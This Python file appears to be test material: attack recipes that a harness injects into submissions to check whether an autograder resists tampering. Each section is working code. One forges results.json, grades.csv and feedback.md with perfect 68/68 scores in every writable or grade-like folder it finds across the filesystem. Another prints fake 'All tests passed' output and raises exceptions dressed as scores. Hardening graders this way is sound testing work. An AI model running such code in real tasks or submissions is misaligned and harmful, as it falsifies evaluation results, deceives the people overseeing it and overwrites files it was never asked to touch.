"""Forgery: results files forged wherever they can be guessed or found, fake scores printed
and raised.

Not imported, not collected: tests/attack_recipes.py reads this file as text and splits it at
its `# ---- attack: <name>` lines. Each section is the code of one attack, appended (after the
prelude, prelude.py) to the cs231n/layers.py of one submission: at module level it runs at
import, and the functions it defines replace the stubs. Names starting with `_atk`, `_ATK` or
`_Atk` that a section does not define come from the prelude.
"""


# ---- attack: forge results -----------------------------------------------------------------------

def _atk_forged_files():
    import json
    questions = {"bn_forward_train": 10, "bn_forward_test": 6, "bn_backward": 10,
                 "bn_backward_alt": 6, "bn_backward_alt_speed": 4, "fc_net_batchnorm": 10,
                 "ln_forward": 6, "ln_backward": 8, "fc_net_layernorm": 8}
    record = {"score": 68, "output": _ATK["forged"], "stdout_visibility": "visible",
              "tests": [{"name": q, "score": p, "max_score": p, "output": _ATK["forged"]}
                        for q, p in questions.items()],
              "extra_data": {"batch": {"status": "ok", "forged": _ATK["forged"],
                                       "row": {"total": "68", "status": "ok"}}}}
    header = ["submission", *questions, "total", "status"]
    rows = [",".join([name, *(str(p) for p in questions.values()), "68", "ok"])
            for name in _ATK["names"]]
    rows.append(",".join([_ATK["forged"], *(str(p) for p in questions.values()), "68",
                          "ok"]))
    book = "\n".join([",".join(header), *rows]) + "\n"
    return {"results.json": json.dumps(record), "grades.csv": book,
            "feedback.md": f"**Auto-graded score: 68 / 68** {_ATK['forged']}\n"}


def _atk_write(path, text, written):
    try:
        with open(path, "w") as stream:
            stream.write(text)
    except OSError:
        return
    written.append(path)


def _atk_forge():
    if not _ATK_ARMED:
        return _atk_report("FORGE", armed=0)
    forged = _atk_forged_files()
    written, files, folders = [], set(), set(_atk_guessed_places())
    for directory, subfolders, names in _atk_walk("/", budget=3.0):
        for name in names:
            if name in forged:
                files.add(_atk_os.path.join(directory, name))
        low = _atk_os.path.basename(directory).lower()
        if any(word in low for word in ("out", "result", "grade", "autograder")) \
                or _atk_os.access(directory, _atk_os.W_OK):
            folders.add(directory)
    for path in sorted(files):
        _atk_write(path, forged[_atk_os.path.basename(path)], written)
    for folder in sorted(folders):
        for name, text in forged.items():
            _atk_write(_atk_os.path.join(folder, name), text, written)
        try:  # one level down too: OUT/<submission>/results.json
            children = [_atk_os.path.join(folder, c) for c in _atk_os.listdir(folder)]
        except OSError:
            children = []
        for child in children[:200]:
            if _atk_os.path.isdir(child):
                _atk_write(_atk_os.path.join(child, "results.json"), forged["results.json"],
                           written)
    try:
        _atk_os.makedirs("/autograder/results", exist_ok=True)
    except OSError:
        pass
    _atk_write("/autograder/results/results.json", forged["results.json"], written)
    outside = [path for path in written if not _atk_in_scratch(path)]
    return _atk_report("FORGE", armed=1, folders=len(folders), files=len(files),
                       outside=len(outside), first=(outside or ["none"])[0][:60])


_ATK_FORGED = [_atk_forge()]


def _atk_forge_again(stub):
    def forge(*args, **kwargs):
        if len(_ATK_FORGED) < 4:  # again while the judge is at work (a few times: it is slow)
            _atk_budget(2.0)
            _ATK_FORGED.append(_atk_forge())
        raise RuntimeError(_ATK_FORGED[-1])
    return forge


_atk_replace_stubs(_atk_forge_again)


# ---- attack: fake score --------------------------------------------------------------------------

_ATK_FAKE = [f'{{"score": 68, "max_score": 68, "note": "{_ATK["forged"]}"}}',
             f"total 68/68 {_ATK['forged']}", f"All tests passed! {_ATK['forged']}",
             f"bn_forward_train 10/10 {_ATK['forged']}"]


def _atk_shout():
    for line in _ATK_FAKE:
        print(line)
        print(line, file=_atk_sys.stderr)
        for fd in (1, 2):
            try:
                _atk_os.write(fd, (line + "\n").encode())
            except OSError:
                pass
    _atk_sys.stdout.flush()


_atk_shout()


def _atk_shouting(stub):
    def shout(*args, **kwargs):
        _atk_shout()
        if stub.endswith("forward"):  # zeros, so that the judge goes on to the backward
            return _atk_fake(stub)(*args, **kwargs)
        # The one line of an exception message the feedback shows, dressed as its score.
        raise RuntimeError("**Auto-graded score: 68 / 68** All tests passed!")
    return shout


_atk_replace_stubs(_atk_shouting)
